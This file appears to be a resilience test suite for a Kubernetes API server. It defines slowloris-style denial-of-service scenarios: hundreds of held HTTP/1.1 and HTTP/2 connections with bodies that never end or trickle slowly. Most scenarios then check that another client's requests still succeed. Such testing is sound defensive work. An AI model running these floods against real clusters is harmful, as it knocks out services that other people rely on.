// Request bodies that never end, or never stop.
import { writableAgain } from './lib/clients.mjs';

const path = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews';
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const all = (count, each) => Promise.all(Array.from({ length: count }, (_, at) => each(at)));
const head = (token, query, framing) =>
  `POST ${path}${query} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\n${framing}\r\n\r\n`;

/** Writes of somebody else must work again once the attackers' requests are over. */
const writable = async ({ ask }) => {
  const answers = await all(50, () =>
    ask('POST', path, { spec: { nonResourceAttributes: { path: '/', verb: 'get' } } }, { token: 'innocent' }),
  );
  const refused = answers.filter(({ status }) => status !== 201);
  return refused.length > 0 ? [`${refused.length} of 50 writes afterwards are refused: ${refused[0].status}`] : [];
};

const unfinished = (query) => async (target) => {
  const sockets = await all(210, () => target.clients.openTls());
  for (const socket of sockets) {
    socket.on('data', () => {});
    socket.write(`${head(target.token, query, 'Content-Length: 1000')}{`);
  }
  await pause(target.seconds * 1000);
};

export default [
  { name: '210 bodies that never end, HTTP/1.1, timeout=1s', run: unfinished('?timeout=1s'), after: writable },
  { name: '210 bodies that never end, HTTP/1.1', run: unfinished(''), after: writable },
  {
    name: '210 chunked bodies, a byte a second',
    after: writable,
    async run(target) {
      const sockets = await all(210, () => target.clients.openTls());
      for (const socket of sockets) {
        socket.on('data', () => {});
        socket.write(head(target.token, '', 'Transfer-Encoding: chunked'));
      }
      for (let second = 0; second < target.seconds; second++) {
        for (const socket of sockets) socket.write('1\r\n \r\n');
        await pause(1000);
      }
    },
  },
  {
    name: '210 bodies that never end, HTTP/2',
    after: writable,
    async run(target) {
      const session = await target.clients.openHttp2();
      const headers = {
        ':method': 'POST',
        ':path': path,
        authorization: `Bearer ${target.token}`,
        'content-type': 'application/json',
      };
      await all(210, () => {
        const stream = target.clients.stream(session, headers);
        stream?.resume();
        stream?.write('{');
      });
      await pause(target.seconds * 1000);
    },
  },
  {
    name: '8 endless bodies without a token, HTTP/1.1',
    async run(target) {
      const until = performance.now() + target.seconds * 1000;
      const chunk = Buffer.alloc(256 * 1024, ' ');
      await all(8, async () => {
        while (performance.now() < until) {
          const socket = await target.clients.openTls();
          socket.on('data', () => {});
          socket.write(`POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000000\r\n\r\n`);
          while (performance.now() < until && !socket.destroyed && socket.writable) {
            if (!socket.write(chunk)) await writableAgain(socket);
          }
          socket.destroy();
        }
      });
    },
  },
  {
    name: '64 streams of endless DATA, HTTP/2',
    async run(target) {
      const until = performance.now() + target.seconds * 1000;
      const chunk = Buffer.alloc(64 * 1024, ' ');
      const session = await target.clients.openHttp2();
      const headers = { ':method': 'POST', ':path': path, authorization: `Bearer ${target.token}` };
      await all(64, async () => {
        while (performance.now() < until && !session.destroyed) {
          const stream = target.clients.stream(session, headers);
          if (!stream) return;
          stream.resume();
          while (performance.now() < until && !stream.destroyed && stream.writable) {
            if (!stream.write(chunk)) await writableAgain(stream);
          }
          stream.destroy();
        }
      });
    },
  },
];
